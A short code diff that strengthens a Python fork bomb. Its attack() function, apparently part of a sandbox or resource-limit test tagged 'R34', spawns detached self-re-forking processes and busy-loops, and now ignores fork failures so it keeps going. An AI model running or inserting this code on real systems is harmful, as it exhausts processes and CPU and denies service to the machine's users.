@@ -10,13 +10,18 @@ import armed
 def attack():
     armed.ran("R34")
     for _ in range(12):
-        if os.fork() == 0:
+        if forked() == 0:
             os.setsid()
             while True:
-                try:
-                    if os.fork():
-                        os._exit(0)
-                except OSError:
-                    pass
+                if forked():
+                    os._exit(0)
     while True:
         pass
+
+
+def forked():
+    """As os.fork(); refused where the box is full of the dead, it is no reason to stop."""
+    try:
+        return os.fork()
+    except OSError:
+        return None
